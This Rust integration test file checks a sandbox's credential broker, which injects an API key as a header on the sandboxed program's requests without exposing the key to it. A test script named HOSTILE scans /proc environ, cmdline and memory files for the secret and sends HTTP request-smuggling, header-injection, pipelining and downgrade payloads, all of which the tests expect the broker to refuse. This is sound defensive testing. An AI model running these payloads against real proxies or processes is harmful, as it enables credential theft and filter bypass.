//! The credential broker through `cordon run`: real clients call an HTTPS
//! server on 127.0.0.1 (a test CA of its own, given with --upstream-ca)
//! with a key injected as a header, and never hold it; a hostile program
//! looks for the value and tries to send the placeholder where it is not
//! bound; request rules allow one request and refuse its neighbours. As
//! root and as uid 65534; the server and the host judge.

use std::process::Command;

use crate::common::http::{git_repo, HostServer};
use crate::common::https::HttpsServer;
use crate::common::{as_each_uid, run, text};

/// The key: long and distinctive, so finding it anywhere is a finding.
const KEY: &str = "sk-test-7d1f0c6a94e2b8355aa0c0ffee1234567890";

/// A world-readable temp dir (uid 65534 reads the CA in it).
fn readable_dir() -> tempfile::TempDir {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).unwrap();
    dir
}

/// `cordon run` with the key as secret K bound to the server as a bearer
/// header, its source cordon's own environment.
fn brokered(cmd: &mut Command, server: &HttpsServer) -> Vec<String> {
    let host = format!("localhost:{}", server.port);
    cmd.env("CORDON_TEST_KEY", KEY);
    vec![
        "run".into(),
        "--secret".into(),
        "K=env:CORDON_TEST_KEY".into(),
        "--secret-host".into(),
        format!("K={host}"),
        "--secret-header".into(),
        "K=Authorization: Bearer {}".into(),
        "--upstream-ca".into(),
        server.ca.display().to_string(),
        "--explain".into(),
    ]
}

#[test]
fn real_clients_call_an_api_with_a_key_they_never_hold() {
    let dir = readable_dir();
    let root = dir.path().join("www");
    std::fs::create_dir_all(&root).unwrap();
    git_repo(&root);
    let server = HttpsServer::start(root, dir.path(), KEY);
    let url = format!("https://localhost:{}", server.port);
    as_each_uid(dir.path(), |who, cmd| {
        let mut placeholders = Vec::new();
        let clients: [(&str, Vec<String>); 5] = [
            ("curl", vec!["/usr/bin/curl".into(), "-sS".into(), format!("{url}/echo")]),
            // A client that reads only the system's bundle (Go without
            // SSL_CERT_FILE, say): the run's CA is placed there too.
            (
                "curl-system-bundle",
                vec![
                    "/usr/bin/env".into(),
                    "-u".into(),
                    "SSL_CERT_FILE".into(),
                    "-u".into(),
                    "CURL_CA_BUNDLE".into(),
                    "/usr/bin/curl".into(),
                    "-sS".into(),
                    format!("{url}/echo"),
                ],
            ),
            (
                "python",
                vec![
                    "/usr/bin/python3".into(),
                    "-c".into(),
                    format!(
                        "import urllib.request\nprint(urllib.request.urlopen('{url}/echo').read().decode(), end='')"
                    ),
                ],
            ),
            (
                "node",
                vec![
                    "/usr/bin/node".into(),
                    "-e".into(),
                    format!(
                        "fetch('{url}/echo').then(r => r.text()).then(t => process.stdout.write(t))"
                    ),
                ],
            ),
            (
                "git",
                vec![
                    "/bin/sh".into(),
                    "-c".into(),
                    format!("/usr/bin/git clone -q {url}/repo.git out && cat out/file.txt && echo \"K=$K\""),
                ],
            ),
        ];
        for (client, argv) in clients {
            let mut c = cmd();
            let mut args = brokered(&mut c, &server);
            if client == "node" {
                // fetch compiles WebAssembly (its HTTP parser), which
                // reserves about 10 GiB of address space: more than the
                // default per-process limit (RLIMIT_AS) a user without a
                // memory cgroup gets (README, "Limits").
                args.extend(["--mem", "12G", "--mem-scope", "process"].map(String::from));
            }
            args.push("--".into());
            args.extend(argv);
            let out = run(c.args(&args));
            let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
            assert!(out.status.success(), "{who} {client}: {stdout}\n{stderr}");
            assert!(
                !stdout.contains(KEY) && !stderr.contains(KEY),
                "{who} {client}: the key reached the program or cordon's output"
            );
            if client == "git" {
                assert!(
                    stdout.starts_with("cloned through the proxy\n"),
                    "{who} git: {stdout}\n{stderr}"
                );
            } else {
                // The echo: what the server got, scrubbed on its way back.
                assert!(
                    stdout.starts_with("GET /echo HTTP/1.1"),
                    "{who} {client}: {stdout}\n{stderr}"
                );
            }
            let placeholder = stdout
                .split(|c: char| c.is_whitespace())
                .find(|w| w.contains("cordon-placeholder-K-"))
                .unwrap_or_else(|| panic!("{who} {client}: no placeholder came back: {stdout}"))
                .trim_start_matches("K=")
                .to_owned();
            placeholders.push(placeholder);
        }
        // One run, one placeholder: each run draws its own.
        placeholders.sort();
        placeholders.dedup();
        assert_eq!(placeholders.len(), 5, "{who}: {placeholders:?}");
    });
    let seen = server.seen();
    for agent in ["curl/", "Python-urllib/", "git/"] {
        assert!(
            seen.lines()
                .any(|l| l.starts_with("User-Agent: ") && l.contains(agent)),
            "the server never heard from {agent}: {seen}"
        );
    }
    assert!(
        !seen.contains("cordon-placeholder"),
        "a placeholder reached the server: {seen}"
    );
    assert!(seen.contains(&format!("Bearer {KEY}")), "{seen}");
}

/// What a hostile program tries, in Python inside the sandbox: it prints
/// every place it read (for the host to search for the value) and, per
/// attempt, the proxy's or server's status line or the error.
const HOSTILE: &str = r#"
import os, socket, ssl, sys, glob, json
port, plain_port, ph = int(sys.argv[1]), int(sys.argv[2]), os.environ["K"]
dump = []
dump.append(repr(dict(os.environ)))
for p in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/maps"):
    try: dump.append(open(p, "rb").read().decode("latin-1"))
    except Exception as e: dump.append(f"{p}: {e}")
for p in glob.glob("/proc/*/mem"):
    try:
        f = open(p, "rb"); dump.append(f"{p}: opened")
    except Exception as e: dump.append(f"{p}: {e}")
for f in [os.environ[v] for v in ("SSL_CERT_FILE", "NODE_EXTRA_CA_CERTS")]:
    dump.append(open(f).read())
ctx = ssl.create_default_context()
def tunnel(target):
    s = socket.create_connection(("127.0.0.1", 3128))
    s.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
    line = first_line(s)
    if " 200 " not in line: raise Exception(line)
    return s
def tls(name="localhost"):
    return ctx.wrap_socket(tunnel(f"localhost:{port}"), server_hostname=name)
def first_line(s):
    data = b""
    while b"\r\n" not in data:
        d = s.recv(4096)
        if not d: break
        data += d
    return data.decode("latin-1").split("\r\n")[0]
def ask(raw, name="localhost"):
    s = tls(name); s.sendall(raw); return first_line(s)
h = f"Host: localhost:{port}\r\n"
out = {}
def attempt(k, f):
    try: out[k] = f()
    except Exception as e: out[k] = "error: " + str(e)[:200]
attempt("control", lambda: ask(f"GET /echo HTTP/1.1\r\n{h}\r\n".encode()))
attempt("in_url", lambda: ask(f"GET /echo?k={ph} HTTP/1.1\r\n{h}\r\n".encode()))
attempt("in_body", lambda: ask(f"POST /echo HTTP/1.1\r\n{h}Content-Length: {len(ph)}\r\n\r\n{ph}".encode()))
attempt("in_chunked_body", lambda: ask(f"POST /echo HTTP/1.1\r\n{h}Transfer-Encoding: chunked\r\n\r\n{len(ph):x}\r\n{ph}\r\n0\r\n\r\n".encode()))
attempt("in_other_header", lambda: ask(f"GET /echo HTTP/1.1\r\n{h}X-Key: {ph}\r\n\r\n".encode()))
attempt("in_host", lambda: ask(f"GET /echo HTTP/1.1\r\nHost: {ph}\r\n\r\n".encode()))
attempt("fronted_host", lambda: ask(f"GET /echo HTTP/1.1\r\nHost: other.example\r\n\r\n".encode()))
attempt("absolute_url", lambda: ask(f"GET https://other.example/echo HTTP/1.1\r\n{h}\r\n".encode()))
attempt("smuggled", lambda: ask(f"POST /echo HTTP/1.1\r\n{h}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n".encode()))
attempt("pipelined", lambda: ask(f"GET /echo HTTP/1.1\r\n{h}\r\nGET /echo?second HTTP/1.1\r\n{h}\r\n".encode()))
attempt("injected", lambda: ask(f"GET /echo HTTP/1.1\r\n{h}X-A: a\rX-Key: {ph}\r\n\r\n".encode()))
attempt("oversized", lambda: ask(f"GET /echo HTTP/1.1\r\n{h}X-Big: {'a' * 70000}\r\n\r\n".encode()))
attempt("h2_preface", lambda: ask(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))
attempt("wrong_sni", lambda: ask(f"GET /echo HTTP/1.1\r\n{h}\r\n".encode(), name="other.example"))
attempt("by_ip", lambda: tunnel(f"127.0.0.1:{port}") and "tunnel open")
attempt("plain_http_unbound", lambda: (lambda s: (s.sendall(f"GET http://127.0.0.1:{plain_port}/ HTTP/1.1\r\nHost: 127.0.0.1:{plain_port}\r\nX-Key: {ph}\r\n\r\n".encode()), first_line(s))[1])(socket.create_connection(("127.0.0.1", 3128))))
attempt("plain_query_path", lambda: (lambda s: (s.sendall(f"GET http://127.0.0.1:{plain_port}?/allowed/x HTTP/1.1\r\nHost: 127.0.0.1:{plain_port}\r\n\r\n".encode()), first_line(s))[1])(socket.create_connection(("127.0.0.1", 3128))))
attempt("tunnel_to_ruled_host", lambda: tunnel(f"127.0.0.1:{plain_port}") and "tunnel open")
attempt("get_with_body", lambda: ask(f"GET /echo HTTP/1.1\r\n{h}Content-Length: 5\r\n\r\nhello".encode()))
attempt("route_override", lambda: ask(f"GET /echo HTTP/1.1\r\n{h}X-Original-URL: /admin\r\n\r\n".encode()))
attempt("method_override", lambda: ask(f"GET /echo HTTP/1.1\r\n{h}X-HTTP-Method-Override: DELETE\r\n\r\n".encode()))
attempt("plain_http_downgrade", lambda: (lambda s: (s.sendall(f"GET http://localhost:{port}/echo HTTP/1.1\r\nHost: localhost:{port}\r\n\r\n".encode()), first_line(s))[1])(socket.create_connection(("127.0.0.1", 3128))))
print(json.dumps(out))
print("\n".join(dump))
"#;

#[test]
fn a_hostile_program_finds_no_value_and_cannot_send_the_placeholder_elsewhere() {
    let dir = readable_dir();
    let server = HttpsServer::start(dir.path().join("www"), dir.path(), KEY);
    let plain = HostServer::start(dir.path().to_path_buf());
    as_each_uid(dir.path(), |who, cmd| {
        let mut c = cmd();
        let mut args = brokered(&mut c, &server);
        // The unbound host by its address: a name of its own (not the
        // bound localhost, whose plain HTTP is refused as a downgrade).
        args.extend([
            "--allow-host".into(),
            format!("http://127.0.0.1:{}", plain.port),
        ]);
        // A rule for the plain host: a query that hides the path, or a
        // tunnel beside the rule, must not reach it.
        args.extend([
            "--rule".into(),
            format!("GET http://127.0.0.1:{}/allowed/**", plain.port),
        ]);
        // Plain HTTP to the bound host, allowed by the list: the broker
        // still refuses it (a downgrade would carry no TLS to terminate).
        args.extend([
            "--allow-host".into(),
            format!("http://localhost:{}", server.port),
        ]);
        args.extend([
            "--".into(),
            "/usr/bin/python3".into(),
            "-c".into(),
            HOSTILE.into(),
        ]);
        args.push(server.port.to_string());
        args.push(plain.port.to_string());
        let out = run(c.args(&args));
        let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
        assert!(out.status.success(), "{who}: {stdout}\n{stderr}");
        assert!(
            !stdout.contains(KEY) && !stderr.contains(KEY),
            "{who}: the program found the value, or cordon printed it"
        );
        let outcomes: serde_json::Value =
            serde_json::from_str(stdout.lines().next().unwrap()).unwrap();
        let got = |k: &str| outcomes[k].as_str().unwrap_or_default().to_owned();
        assert!(got("control").contains(" 200 "), "{who}: {outcomes}");
        for refused in [
            "in_url",
            "in_body",
            "in_chunked_body",
            "in_other_header",
            "in_host",
            "fronted_host",
            "absolute_url",
            "smuggled",
            "pipelined",
            "injected",
            "h2_preface",
            "plain_http_unbound",
            "plain_http_downgrade",
            "plain_query_path",
            "route_override",
            "method_override",
            "get_with_body",
        ] {
            let o = got(refused);
            assert!(
                o.contains(" 403 ") || o.contains(" 400 "),
                "{who}: {refused} must be refused by the proxy: {o}"
            );
        }
        assert!(got("wrong_sni").starts_with("error: "), "{who}: {outcomes}");
        assert!(
            got("tunnel_to_ruled_host").contains(" 403 "),
            "{who}: {outcomes}"
        );
        // By IP: not on the list (a secret is bound to names only).
        assert!(got("by_ip").contains(" 403 "), "{who}: {outcomes}");
        // Refused at 64 KiB: the 403, or a reset if the program was
        // still sending (the explain line below says which).
        let o = got("oversized");
        assert!(
            o.contains(" 403 ") || o.contains("reset") || o.contains("Broken pipe"),
            "{who}: {o}"
        );
        // Every refusal is explained on stderr.
        for reason in [
            "placeholder is in the request line",
            "placeholder ",
            "is not localhost",
            "only a path",
            "ambiguous",
            "pipelining",
            "does not parse",
            "65536",
            "TLS handshake with the broker failed",
            "placeholder was sent to 127.0.0.1",
            "which plain HTTP there is not",
            "a tunnel to 127.0.0.1",
            "header X-Original-URL",
            "no request rule allows GET /?/allowed/x",
            "127.0.0.1",
        ] {
            assert!(
                stderr.contains(reason),
                "{who}: no explain line with {reason:?}: {stderr}"
            );
        }
    });
    // Nothing refused reached a server: the control and nothing else.
    let seen = server.seen();
    assert!(!seen.contains("cordon-placeholder"), "{seen}");
    assert!(
        !seen.contains("second"),
        "a pipelined request reached the server: {seen}"
    );
    assert!(!seen.contains("other.example"), "{seen}");
    assert!(
        plain.requests().is_empty(),
        "a plain-HTTP request with the placeholder reached the server: {:?}",
        plain.requests()
    );
}

#[test]
fn a_missing_or_exposed_secret_source_refuses_the_run() {
    use std::os::unix::fs::PermissionsExt;
    let dir = readable_dir();
    let private = |p: &std::path::Path| {
        std::fs::write(p, KEY).unwrap();
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o600)).unwrap();
    };
    let outside = dir.path().join("outside-key");
    let granted = dir.path().join("granted");
    let scratch = dir.path().join("scratch");
    for d in [&granted, &scratch] {
        std::fs::create_dir_all(d).unwrap();
    }
    private(&granted.join("key"));
    private(&scratch.join("key"));
    let open = dir.path().join("open-key");
    std::fs::write(&open, KEY).unwrap();
    std::fs::set_permissions(&open, std::fs::Permissions::from_mode(0o644)).unwrap();
    let good = dir.path().join("good-key");
    private(&good);
    let hard = dir.path().join("hard-key");
    std::fs::hard_link(&good, &hard).unwrap();
    // A symlinked directory inside a grant that leads out of it.
    std::os::unix::fs::symlink(dir.path(), granted.join("up")).unwrap();
    let cache = crate::common::shared_cache();
    let file = |p: &std::path::Path| format!("file:{}", p.display());
    let g = granted.display().to_string();
    for (source, extra, says) in [
        (
            "env:CORDON_TEST_NO_SUCH_VAR".to_string(),
            vec![],
            "env:CORDON_TEST_NO_SUCH_VAR is not set",
        ),
        (file(&outside), vec![], "cannot be read"),
        (
            file(&granted.join("key")),
            vec!["--ro".to_string(), g.clone()],
            "which the sandbox may read",
        ),
        (
            file(&granted.join("up/good-key")),
            vec!["--ro".to_string(), g.clone()],
            "which the sandbox may read",
        ),
        (
            file(&scratch.join("key")),
            vec!["--scratch".to_string(), scratch.display().to_string()],
            "which the sandbox may read",
        ),
        (file(&open), vec![], "readable by no one else"),
        (file(&hard), vec![], "one name"),
    ] {
        let mut c = crate::common::cordon(cache.path());
        c.args([
            "run",
            "--secret",
            &format!("K={source}"),
            "--secret-host",
            "K=api.example.com",
        ]);
        c.args(&extra);
        let marker = dir.path().join("ran");
        c.args(["--", "/usr/bin/touch"]).arg(&marker);
        let out = run(&mut c);
        assert_eq!(
            out.status.code(),
            Some(125),
            "{source}: {}",
            text(&out.stderr)
        );
        let stderr = text(&out.stderr);
        assert!(
            stderr.contains("secret K") && stderr.contains(says),
            "{source}: {stderr}"
        );
        assert!(!stderr.contains(KEY), "{stderr}");
        assert!(!marker.exists(), "{source}: the program ran");
    }
    // A policy file's secrets under --trusted: refused, not ignored.
    let policy = dir.path().join("p.toml");
    std::fs::write(
        &policy,
        format!(
            "[secrets.K]\nfrom = \"{}\"\nhosts = [\"api.example.com\"]\n",
            file(&good)
        ),
    )
    .unwrap();
    let out = run(crate::common::cordon(cache.path())
        .args(["run", "--trusted", "--policy"])
        .arg(&policy)
        .args(["--", "/bin/true"]));
    assert_eq!(out.status.code(), Some(125), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("drop --trusted"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn request_rules_allow_one_request_and_explain_the_others() {
    let dir = readable_dir();
    let server = HttpsServer::start(dir.path().join("www"), dir.path(), KEY);
    let plain = HostServer::start(dir.path().to_path_buf());
    let host = format!("localhost:{}", server.port);
    let url = format!("https://{host}");
    let plain_url = format!("http://127.0.0.1:{}", plain.port);
    as_each_uid(dir.path(), |who, cmd| {
        let mut c = cmd();
        let mut args = brokered(&mut c, &server);
        args.extend(["--rule".into(), format!("GET https://{host}/allowed/*")]);
        // The same grammar for plain HTTP, judged on the request as sent.
        args.extend(["--rule".into(), format!("GET {plain_url}/")]);
        args.extend(["--".into(), "/bin/sh".into(), "-c".into()]);
        args.push(format!(
            "for a in '{url}/allowed/x' '-X POST {url}/allowed/x' '{url}/other' \
                      '--path-as-is {url}/allowed/../other' '{plain_url}/' '{plain_url}/x'; do \
               curl -s -o /dev/null -w '%{{http_code}} ' $a; done; \
             curl -s -o /dev/null -w '%{{http_connect}}' --proxytunnel {plain_url}/"
        ));
        let out = run(c.args(&args));
        let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
        // The last: a CONNECT to the host a plain rule is for, refused.
        assert_eq!(stdout, "200 403 403 403 200 403 403", "{who}: {stderr}");
        assert!(
            stderr.contains(&format!("--rule 'POST https://{host}/allowed/x'")),
            "{who}: the explain line names the rule that would allow it: {stderr}"
        );
        assert!(
            stderr.contains("no request rule allows GET /other"),
            "{who}: {stderr}"
        );
        assert!(
            stderr.contains(&format!("--rule 'GET {plain_url}/x'")),
            "{who}: {stderr}"
        );
    });
    let seen = server.seen();
    assert!(seen.contains("GET /allowed/x"), "{seen}");
    assert!(!seen.contains("POST") && !seen.contains("/other"), "{seen}");
    let plain_seen = plain.requests();
    assert!(
        plain_seen.iter().all(|r| r.starts_with("GET / ")),
        "{plain_seen:?}"
    );
}

/// The store `cordon star secret set` writes is a source too: one
/// command sets a key for both planes.
#[cfg(feature = "starlark")]
#[test]
fn a_secret_of_the_sealed_store_is_used_and_never_held() {
    use std::io::Write as _;
    use std::process::Stdio;
    let dir = readable_dir();
    let server = HttpsServer::start(dir.path().join("www"), dir.path(), KEY);
    let cache = crate::common::shared_cache();
    let with_store = |c: &mut Command| {
        c.env("XDG_DATA_HOME", dir.path().join("data"))
            .env("XDG_CONFIG_HOME", dir.path().join("config"))
            .env_remove("CORDON_STORE_URL")
            .env_remove("CORDON_STORE_KEY");
    };
    let pkg = dir.path().join("pkg");
    std::fs::create_dir_all(&pkg).unwrap();
    std::fs::write(pkg.join("package.toml"), "id = \"p\"\n").unwrap();
    std::fs::write(pkg.join("main.star"), "def main():\n    return 1\n").unwrap();
    // Before the store exists: refused, and no store is made.
    let mut c = crate::common::cordon(cache.path());
    with_store(&mut c);
    let out = run(c.args([
        "run",
        "--secret",
        "K=store:p/tok",
        "--secret-host",
        "K=api.example.com",
        "--",
        "/bin/true",
    ]));
    assert_eq!(out.status.code(), Some(125), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("there is no store"),
        "{}",
        text(&out.stderr)
    );
    assert!(!dir.path().join("data/cordon/star.db").exists());

    let mut c = crate::common::cordon(cache.path());
    with_store(&mut c);
    let out = run(c.args(["star", "install"]).arg(&pkg));
    assert!(out.status.success(), "{}", text(&out.stderr));
    let mut c = crate::common::cordon(cache.path());
    with_store(&mut c);
    let mut child = c
        .args(["star", "secret", "set", "p", "tok"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(KEY.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", text(&out.stderr));

    let mut c = crate::common::cordon(cache.path());
    with_store(&mut c);
    let host = format!("localhost:{}", server.port);
    let out = run(c
        .args([
            "run",
            "--secret",
            "K=store:p/tok",
            "--secret-host",
            &format!("K={host}"),
        ])
        .args([
            "--secret-header",
            "K=Authorization: Bearer {}",
            "--upstream-ca",
        ])
        .arg(&server.ca)
        .args([
            "--",
            "/usr/bin/curl",
            "-sS",
            &format!("https://{host}/echo"),
        ]));
    let stdout = text(&out.stdout);
    assert!(out.status.success(), "{stdout}\n{}", text(&out.stderr));
    assert!(
        stdout.contains("Bearer cordon-placeholder-K-") && !stdout.contains(KEY),
        "{stdout}"
    );
    assert!(server.seen().contains(&format!("Bearer {KEY}")));
    // The store's files where the sandbox reads: refused (its key and
    // database open every secret in it).
    let mut c = crate::common::cordon(cache.path());
    with_store(&mut c);
    c.args(["run", "--ro"]).arg(dir.path().join("config"));
    let out = run(c.args([
        "--secret",
        "K=store:p/tok",
        "--secret-host",
        &format!("K={host}"),
        "--",
        "/bin/true",
    ]));
    assert_eq!(out.status.code(), Some(125), "{}", text(&out.stderr));
    assert!(
        text(&out.stderr).contains("which the sandbox may read"),
        "{}",
        text(&out.stderr)
    );
    // A name the store does not hold refuses the run.
    let mut c = crate::common::cordon(cache.path());
    with_store(&mut c);
    let out = run(c.args([
        "run",
        "--secret",
        "K=store:p/nope",
        "--secret-host",
        &format!("K={host}"),
        "--",
        "/bin/true",
    ]));
    assert_eq!(out.status.code(), Some(125));
    assert!(
        text(&out.stderr).contains("no secret nope"),
        "{}",
        text(&out.stderr)
    );
}

/// The Starlark plane: a package's `[credentials.K]` has the host set the
/// key as a header on its `http` calls to the bound host; the script never
/// reads it (no `secrets.read`), an echo hands it back scrubbed, and a
/// request rule in `network_access` allows one request and refuses its
/// neighbours.
#[cfg(feature = "starlark")]
#[test]
fn a_package_calls_an_api_with_a_credential_it_never_reads() {
    use std::os::unix::fs::PermissionsExt;
    let dir = readable_dir();
    let server = HttpsServer::start(dir.path().join("www"), dir.path(), KEY);
    let host = format!("localhost:{}", server.port);
    let pkg = dir.path().join("pkg");
    std::fs::create_dir_all(&pkg).unwrap();
    std::fs::write(
        pkg.join("package.toml"),
        format!(
            "id = \"cred\"\npermissions = [\"api.http\"]\n\
             network_access = [\"GET https://{host}/**\"]\n\
             [credentials.K]\nhosts = [\"{host}\"]\nheader = \"Authorization: Bearer {{}}\"\n"
        ),
    )
    .unwrap();
    std::fs::write(
        pkg.join("main.star"),
        format!(
            "def main():\n    return http.get('https://{host}/echo').body\n\
             def post():\n    return http.post('https://{host}/allowed/x', body='x').status\n\
             def reflect():\n    return http.get('https://{host}/redirect-reflect').url\n\
             def gz():\n    return http.get('https://{host}/gzip').status\n\
             def override():\n    return http.get('https://{host}/echo', \
             headers={{'X-HTTP-Method-Override': 'DELETE'}}).status\n"
        ),
    )
    .unwrap();
    let key = dir.path().join("key");
    std::fs::write(&key, KEY).unwrap();
    std::fs::set_permissions(&key, std::fs::Permissions::from_mode(0o600)).unwrap();
    let cache = crate::common::shared_cache();
    // The same package, its script reaching for the key.
    let thief = dir.path().join("thief");
    std::fs::create_dir_all(&thief).unwrap();
    std::fs::copy(pkg.join("package.toml"), thief.join("package.toml")).unwrap();
    std::fs::write(
        thief.join("main.star"),
        "def steal():\n    return secrets.get('K')\n",
    )
    .unwrap();
    let star_in = |pkg: &std::path::Path, entry: &str| {
        let mut c = crate::common::cordon(cache.path());
        c.args(["star", "run"])
            .arg(pkg)
            .args([
                "--entry",
                entry,
                "--grant",
                "api.http",
                "--allow-private",
                "127.0.0.1/32",
            ])
            .arg("--secret-file")
            .arg(format!("K={}", key.display()))
            .arg("--upstream-ca")
            .arg(&server.ca);
        run(&mut c)
    };
    let star = |entry: &str| star_in(&pkg, entry);
    let out = star("main");
    let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
    assert!(out.status.success(), "{stdout}\n{stderr}");
    assert!(
        stdout.contains("Bearer cordon-credential-K"),
        "the echo, scrubbed: {stdout}"
    );
    assert!(
        !stdout.contains(KEY) && !stderr.contains(KEY),
        "{stdout}\n{stderr}"
    );
    assert!(
        server.seen().contains(&format!("Bearer {KEY}")),
        "{}",
        server.seen()
    );
    // The script cannot read it: no secrets.read, no `secrets` module.
    let out = star_in(&thief, "steal");
    assert!(!out.status.success(), "{}", text(&out.stdout));
    assert!(!text(&out.stdout).contains(KEY) && !text(&out.stderr).contains(KEY));
    // A POST where the rule allows a GET: refused, never sent.
    let out = star("post");
    assert!(!out.status.success(), "{}", text(&out.stdout));
    assert!(
        text(&out.stderr).contains("no request rule of the package allows POST /allowed/x"),
        "{}",
        text(&out.stderr)
    );
    assert!(!server.seen().contains("POST"), "{}", server.seen());
    // A server that reflects the key into a redirect: not followed, and
    // the error does not quote it.
    for (entry, says) in [
        ("reflect", "redirect's Location"),
        ("gz", "encoded or partial"),
        ("override", "X-HTTP-Method-Override"),
    ] {
        let out = star(entry);
        let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
        assert!(!out.status.success(), "{entry}: {stdout}");
        assert!(stderr.contains(says), "{entry}: {stderr}");
        assert!(
            !stdout.contains(KEY) && !stderr.contains(KEY),
            "{entry}: {stdout}\n{stderr}"
        );
    }
    assert!(!server.seen().contains("/done"), "{}", server.seen());
    assert!(!server.seen().contains("Override"), "{}", server.seen());
}
